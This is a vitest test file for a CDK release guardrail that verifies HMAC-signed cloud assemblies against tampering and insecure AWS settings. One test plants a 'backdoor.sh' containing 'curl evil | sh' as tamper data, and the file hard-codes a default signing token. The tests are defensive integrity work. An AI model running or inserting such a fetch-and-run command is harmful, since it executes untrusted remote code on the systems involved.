// The guardrail against the real app: one `cdk synth` for the whole file, then every case
// verifies its own copy of that assembly, tampered the way the case describes.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AssemblyInfo, findStage, readCloudAssembly } from '../../pipeline/guardrail/assembly.js';
import { ATTESTATION_FILE, readAttestation, writeAttestation } from '../../pipeline/guardrail/attestation.js';
import { keyIdOf } from '../../pipeline/guardrail/token.js';
import { type VerifyResult, verifyAssembly } from '../../pipeline/guardrail/verify.js';

const REPO = resolve(__dirname, '..', '..');
const TOKEN = 'r5gdjql-k000zve0-zxk'; // the cdk.json default, which the synth below signs with
const OTHER_TOKEN = 'another-valid-token';
const BIN = (name: string) => join(REPO, 'node_modules', '.bin', name);

const temps: string[] = [];
let synthesized: string;

function tempDir(prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  temps.push(dir);
  return dir;
}

/** The environment of a child process, without any GUARDRAIL_TOKEN of the caller's. */
function childEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const env = { ...process.env, ...extra };
  if (!('GUARDRAIL_TOKEN' in extra)) delete env.GUARDRAIL_TOKEN;
  return env;
}

beforeAll(() => {
  synthesized = tempDir('guardrail-synth-');
  const synth = spawnSync(BIN('cdk'), ['synth', '-q', '**', '--no-notices', '-o', synthesized], {
    cwd: REPO,
    env: childEnv(),
    encoding: 'utf8',
  });
  if (synth.status !== 0) throw new Error(`cdk synth failed (${synth.status}):\n${synth.stderr}`);
  if (!existsSync(join(synthesized, ATTESTATION_FILE))) {
    throw new Error(`cdk synth wrote no ${ATTESTATION_FILE}: bin/app.ts must call writeAttestation after app.synth()`);
  }
});

afterAll(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true });
});

/** A fresh copy of the synthesized (and signed) assembly. */
function copy(): string {
  const dir = tempDir('guardrail-case-');
  cpSync(synthesized, dir, { recursive: true, verbatimSymlinks: true });
  return dir;
}

function verify(dir: string, env: NodeJS.ProcessEnv = { GUARDRAIL_TOKEN: TOKEN }): VerifyResult {
  return verifyAssembly({ assemblyDir: dir, env });
}

/** Ids of the checks that did not pass. */
function notPassing(result: VerifyResult): string[] {
  return result.checks.filter((c) => c.status !== 'pass').map((c) => c.id);
}

function check(result: VerifyResult, id: string) {
  const found = result.checks.find((c) => c.id === id);
  if (!found) throw new Error(`no check ${id}`);
  return found;
}

/** Summary and details of a check as one string, for matching messages. */
function text(result: VerifyResult, id: string): string {
  const c = check(result, id);
  return [c.summary, ...c.details].join('\n');
}

function production(dir: string): AssemblyInfo {
  return findStage(readCloudAssembly(dir), 'Production');
}

/** The first production template holding a resource of `type`, with that resource's logical id. */
function productionResource(dir: string, type: string): { template: string; logicalId: string } {
  for (const stack of production(dir).stacks) {
    const resources = readJson(join(dir, stack.template)).Resources as Record<string, { Type: string }>;
    const logicalId = Object.keys(resources).find((id) => resources[id]!.Type === type);
    if (logicalId) return { template: stack.template, logicalId };
  }
  throw new Error(`no ${type} in the production templates`);
}

function firstDockerContext(dir: string): { id: string; path: string } {
  const asset = production(dir).assets.find((a) => a.kind === 'docker-context');
  if (!asset?.path) throw new Error('production deploys no Docker image asset');
  return { id: asset.id, path: asset.path };
}

function readJson(file: string): any {
  return JSON.parse(readFileSync(file, 'utf8'));
}

function editJson(file: string, edit: (data: any) => void): void {
  const data = readJson(file);
  edit(data);
  writeFileSync(file, JSON.stringify(data, null, 1));
}

describe('a fresh synth of the app', () => {
  it('is signed at synth and passes every check', () => {
    const result = verify(copy());
    expect(notPassing(result)).toEqual([]);
    expect(result.ok).toBe(true);
    expect(result.checks.map((c) => c.id)).toEqual([
      'token',
      'attestation',
      'key-id',
      'signature',
      'digests',
      'staging-parity',
      'log-retention',
      's3-public-access',
      's3-encryption',
      's3-ssl',
      'cloudfront-logging',
      'alb-logging',
      'vpc-flow-logs',
      'iam-wildcard',
      'nag',
    ]);
  });

  it('attests every template and asset of both stages, with the key id and never the token', () => {
    const raw = readFileSync(join(synthesized, ATTESTATION_FILE), 'utf8');
    expect(raw).not.toContain(TOKEN);
    const attestation = readAttestation(synthesized);
    expect(attestation.keyId).toBe(keyIdOf(TOKEN));
    const attested = new Set(attestation.entries.map((e) => e.path));
    for (const assembly of readCloudAssembly(synthesized)) {
      expect(attested).toContain(assembly.manifest);
      for (const stack of assembly.stacks) expect(attested).toContain(stack.template);
      for (const asset of assembly.assets) expect(attested).toContain(asset.path);
    }
    expect(attested).toContain('validation-report.json');
    expect(attested).not.toContain('tree.json');
    const docker = attestation.entries.filter((e) => e.kind === 'docker-context');
    expect(docker.length).toBeGreaterThanOrEqual(2); // the api and worker images
    const stageNames = [production(synthesized).displayName, findStage(readCloudAssembly(synthesized), 'Staging').displayName].sort();
    for (const entry of docker) expect(entry.usedBy).toEqual(stageNames);
    const paths = attestation.entries.map((e) => e.path);
    expect(paths).toEqual([...paths].sort());
  });
});

describe('tampering with a signed assembly', () => {
  it('fails on one byte of a template changed, naming the template', () => {
    const dir = copy();
    const { template } = productionResource(dir, 'AWS::S3::Bucket');
    const file = join(dir, template);
    // A space becomes a tab: still valid JSON with the same meaning, but not the signed bytes.
    const content = readFileSync(file, 'utf8');
    const at = content.indexOf('\n ') + 1;
    writeFileSync(file, `${content.slice(0, at)}\t${content.slice(at + 1)}`);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect(check(result, 'digests').details).toEqual([
      `changed: ${template} (template) differs from the signed SHA-256`,
    ]);
  });

  it('fails on one byte of an asset file changed, naming the file inside the asset', () => {
    const dir = copy();
    const asset = firstDockerContext(dir);
    const file = join(dir, asset.path, 'Dockerfile');
    const bytes = readFileSync(file);
    bytes[0] = bytes[0]! ^ 0x20;
    writeFileSync(file, bytes);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect(check(result, 'digests').details).toEqual([
      `changed: ${asset.path}/Dockerfile (file of asset ${asset.path}) differs from the signed SHA-256`,
    ]);
  });

  it('fails on a file added to an asset directory', () => {
    const dir = copy();
    const asset = firstDockerContext(dir);
    writeFileSync(join(dir, asset.path, 'backdoor.sh'), 'curl evil | sh\n');
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect(check(result, 'digests').details).toEqual([
      `added: ${asset.path}/backdoor.sh (file of asset ${asset.path}) is not in the attestation`,
    ]);
  });

  it('fails on a file removed from an asset directory', () => {
    const dir = copy();
    const asset = firstDockerContext(dir);
    unlinkSync(join(dir, asset.path, 'Dockerfile'));
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect(check(result, 'digests').details).toEqual([
      `removed: ${asset.path}/Dockerfile (file of asset ${asset.path})`,
    ]);
  });

  it('fails on a template removed from the assembly', () => {
    const dir = copy();
    const { template } = productionResource(dir, 'AWS::S3::Bucket');
    unlinkSync(join(dir, template));
    const result = verify(dir);
    expect(notPassing(result)).toContain('digests');
    expect(check(result, 'digests').details).toContain(
      `removed: ${template} (template) is named by a manifest but missing from the assembly`,
    );
  });

  it('fails on a template added to the production stage, naming the manifest and the template', () => {
    const dir = copy();
    const prod = production(dir);
    const template = `${prod.directory}/Extra.template.json`;
    writeFileSync(join(dir, template), JSON.stringify({ Resources: {} }));
    editJson(join(dir, prod.manifest), (manifest) => {
      manifest.artifacts.Extra = {
        type: 'aws:cloudformation:stack',
        environment: 'aws://unknown-account/unknown-region',
        properties: { templateFile: 'Extra.template.json' },
      };
    });
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect(check(result, 'digests').details).toEqual([
      `added: ${template} (template, used by ${prod.displayName}) is not in the attestation`,
      `changed: ${prod.manifest} (manifest) differs from the signed SHA-256`,
    ]);
  });

  it('fails when the attestation is edited to match a tampered template (the HMAC no longer matches)', () => {
    const dir = copy();
    const { template } = productionResource(dir, 'AWS::S3::Bucket');
    writeFileSync(join(dir, template), readFileSync(join(dir, template), 'utf8').replace('\n ', '\n\t'));
    // The forger recomputes the digest but, without the token, cannot recompute the HMAC.
    const forged = readAttestation(dir);
    const honest = readAttestation(copyWithResign(dir));
    editJson(join(dir, ATTESTATION_FILE), (data) => {
      data.entries = honest.entries;
      data.hmac = forged.hmac;
    });
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['signature']);
    expect(check(result, 'signature').summary).toMatch(/HMAC-SHA256 of the attestation does not match/);
  });

  it('fails on a wrong token, naming both key ids', () => {
    const result = verify(copy(), { GUARDRAIL_TOKEN: OTHER_TOKEN });
    expect(notPassing(result)).toEqual(['key-id', 'signature']);
    expect(check(result, 'key-id').summary).toBe(
      `wrong token: the attestation was signed with key id ${keyIdOf(TOKEN)}, GUARDRAIL_TOKEN has key id ${keyIdOf(OTHER_TOKEN)}`,
    );
  });

  it('fails without a token', () => {
    const result = verify(copy(), {});
    expect(notPassing(result)).toEqual(['token', 'key-id', 'signature']);
    expect(check(result, 'token').summary).toBe('guardrail token missing: set GUARDRAIL_TOKEN');
    expect(check(result, 'signature').status).toBe('skip');
  });

  it('fails on a malformed token without printing it', () => {
    const result = verify(copy(), { GUARDRAIL_TOKEN: 'Not A Token' });
    expect(notPassing(result)).toEqual(['token', 'key-id', 'signature']);
    expect(text(result, 'token')).toMatch(/GUARDRAIL_TOKEN is malformed/);
    expect(JSON.stringify(result)).not.toContain('Not A Token');
  });

  it('fails on a malformed attestation (not JSON)', () => {
    const dir = copy();
    const file = join(dir, ATTESTATION_FILE);
    writeFileSync(file, readFileSync(file, 'utf8').slice(0, 100));
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['attestation', 'key-id', 'signature', 'digests']);
    expect(check(result, 'attestation').summary).toMatch(/^guardrail-attestation.json is not valid JSON/);
  });

  it('fails on a malformed attestation (valid JSON, wrong shape)', () => {
    const dir = copy();
    editJson(join(dir, ATTESTATION_FILE), (data) => {
      data.hmac = 'not-hex';
    });
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['attestation', 'key-id', 'signature', 'digests']);
    expect(check(result, 'attestation').summary).toMatch(/^guardrail-attestation.json is malformed: .*hmac/);
  });

  it('fails on a missing attestation', () => {
    const dir = copy();
    unlinkSync(join(dir, ATTESTATION_FILE));
    const result = verify(dir);
    expect(check(result, 'attestation').summary).toMatch(/guardrail-attestation.json is missing .*not signed/);
  });
});

/** A copy of `dir` re-signed with the right token; returns the copy. */
function copyWithResign(dir: string): string {
  const other = tempDir('guardrail-resigned-');
  cpSync(dir, other, { recursive: true, verbatimSymlinks: true });
  writeAttestation(other, TOKEN);
  return other;
}

describe('checks that hold even for a correctly signed assembly', () => {
  it('fails on an asset that only production deploys', () => {
    const dir = copy();
    const asset = firstDockerContext(dir);
    // A different build context under a new id, swapped in consistently in the production
    // assets manifest and template, then signed with the right token: only parity can catch it.
    const newId = 'f'.repeat(64);
    const newPath = `asset.${newId}`;
    cpSync(join(dir, asset.path), join(dir, newPath), { recursive: true });
    writeFileSync(join(dir, newPath, 'untested.txt'), 'never deployed to staging\n');
    const prod = production(dir);
    const files = [...prod.assetManifests, ...prod.stacks.map((s) => s.template)];
    let replaced = 0;
    for (const file of files) {
      const content = readFileSync(join(dir, file), 'utf8');
      replaced += content.split(asset.id).length - 1;
      writeFileSync(join(dir, file), content.split(asset.id).join(newId));
    }
    expect(replaced).toBeGreaterThanOrEqual(3); // manifest key, source directory, image tag; the template's image URI
    // Unsigned, the swap is caught by the digests, naming the new asset.
    expect(check(verify(dir), 'digests').details).toContain(
      `added: ${newPath} (docker-context, used by ${prod.displayName}) is not in the attestation`,
    );
    writeAttestation(dir, TOKEN);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['staging-parity']);
    expect(check(result, 'staging-parity').details).toEqual([
      expect.stringMatching(
        new RegExp(
          `^docker-context ${newId} \\(${newPath}, named by ${prod.directory}/.*\\.assets\\.json\\) is deployed by ${prod.displayName} but .*Staging never deployed it$`,
        ),
      ),
    ]);
  });

  it('fails on an unacknowledged cdk-nag finding', () => {
    const dir = copy();
    let rule = '';
    editJson(join(dir, 'validation-report.json'), (report) => {
      const plugin = report.pluginReports.find((p: any) => (p.suppressedViolations ?? []).length > 0);
      const acknowledged = plugin.suppressedViolations.shift();
      const { acknowledgedId, reason, acknowledgedAt, acknowledgedStackTrace, ...finding } = acknowledged;
      rule = finding.ruleName;
      plugin.violations.push(finding);
      plugin.conclusion = 'failure';
    });
    writeAttestation(dir, TOKEN);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['nag']);
    expect(check(result, 'nag').details).toEqual([expect.stringContaining(`${rule} (error) at `)]);
    expect(check(result, 'nag').details[0]).toMatch(/not acknowledged$/);
  });

  it('fails on a bucket without encryption', () => {
    const dir = copy();
    const { template, logicalId } = productionResource(dir, 'AWS::S3::Bucket');
    editJson(join(dir, template), (t) => {
      delete t.Resources[logicalId].Properties.BucketEncryption;
    });
    writeAttestation(dir, TOKEN);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['s3-encryption']);
    expect(check(result, 's3-encryption').details).toEqual([
      `${template}: ${logicalId} (AWS::S3::Bucket) has no BucketEncryption.ServerSideEncryptionConfiguration`,
    ]);
  });

  it('fails on a log group without retention', () => {
    const dir = copy();
    const { template, logicalId } = productionResource(dir, 'AWS::Logs::LogGroup');
    editJson(join(dir, template), (t) => {
      delete t.Resources[logicalId].Properties.RetentionInDays;
    });
    writeAttestation(dir, TOKEN);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['log-retention']);
    expect(check(result, 'log-retention').details).toEqual([
      `${template}: ${logicalId} (AWS::Logs::LogGroup) has no RetentionInDays: its logs would be kept forever`,
    ]);
  });

  it('audits production only: a staging bucket without encryption does not block the release', () => {
    const dir = copy();
    const staging = findStage(readCloudAssembly(dir), 'Staging');
    let edited = 0;
    for (const stack of staging.stacks) {
      editJson(join(dir, stack.template), (t) => {
        for (const resource of Object.values<any>(t.Resources)) {
          if (resource.Type === 'AWS::S3::Bucket') {
            delete resource.Properties.BucketEncryption;
            edited++;
          }
        }
      });
    }
    expect(edited).toBeGreaterThan(0);
    writeAttestation(dir, TOKEN);
    expect(notPassing(verify(dir))).toEqual([]);
  });
});

describe('the CLI process', () => {
  const cli = (args: string[], env: NodeJS.ProcessEnv) =>
    spawnSync(BIN('tsx'), [join(REPO, 'pipeline', 'guardrail', 'cli.ts'), ...args], { cwd: REPO, env, encoding: 'utf8' });

  it('exits 0 on a good assembly, prints one line per check and writes the report outside the attested set', () => {
    const dir = copy();
    const run = cli(['verify', dir], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const lines = run.stdout.trim().split('\n');
    expect(lines.filter((l) => /^PASS /.test(l))).toHaveLength(15);
    expect(lines).toContain('guardrail: all 15 checks passed');
    const report = readJson(join(dir, 'guardrail-report.json'));
    expect(report.ok).toBe(true);
    expect(report.checks).toHaveLength(15);
    expect(JSON.stringify(report)).not.toContain(TOKEN);
    // The report sits in the assembly but is not attested: a second verify still passes.
    expect(verify(dir).ok).toBe(true);
  });

  it('exits 1 on a tampered assembly, naming the file, and writes the report where --report says', () => {
    const dir = copy();
    const asset = firstDockerContext(dir);
    writeFileSync(join(dir, asset.path, 'extra'), 'x');
    const reportFile = join(tempDir('guardrail-report-'), 'nested', 'report.json');
    const run = cli(['verify', dir, '--report', reportFile], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(/^FAIL digests: the assembly differs from what was signed \(1\)$/m);
    expect(run.stdout).toContain(`added: ${asset.path}/extra`);
    expect(run.stdout).toMatch(/checks did not pass: the release must stop/);
    expect(readJson(reportFile).ok).toBe(false);
    expect(existsSync(join(dir, 'guardrail-report.json'))).toBe(false);
  });

  it('exits 1 without GUARDRAIL_TOKEN, even though cdk.json has a default', () => {
    const run = cli(['verify', copy()], childEnv());
    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(/^FAIL token: guardrail token missing: set GUARDRAIL_TOKEN$/m);
  });

  it('exits 2 on a usage error', () => {
    expect(cli(['verify'], childEnv()).status).toBe(2);
    expect(cli(['verify', tempDir('guardrail-empty-')], childEnv()).stderr).toMatch(/is not a cloud assembly/);
    expect(cli(['frobnicate', copy()], childEnv()).status).toBe(2);
  });

  it('makes cdk synth fail with a clear error on a malformed token, without printing it', () => {
    const out = tempDir('guardrail-badsynth-');
    const run = spawnSync(BIN('cdk'), ['synth', '-q', '**', '--no-notices', '-o', out], {
      cwd: REPO,
      env: childEnv({ GUARDRAIL_TOKEN: 'Bad_Secret_Value' }),
      encoding: 'utf8',
    });
    expect(run.status).not.toBe(0);
    expect(run.stderr).toMatch(/guardrail token from environment variable GUARDRAIL_TOKEN is malformed/);
    expect(`${run.stdout}${run.stderr}`).not.toContain('Bad_Secret_Value');
    expect(existsSync(join(out, ATTESTATION_FILE))).toBe(false);
  });
});
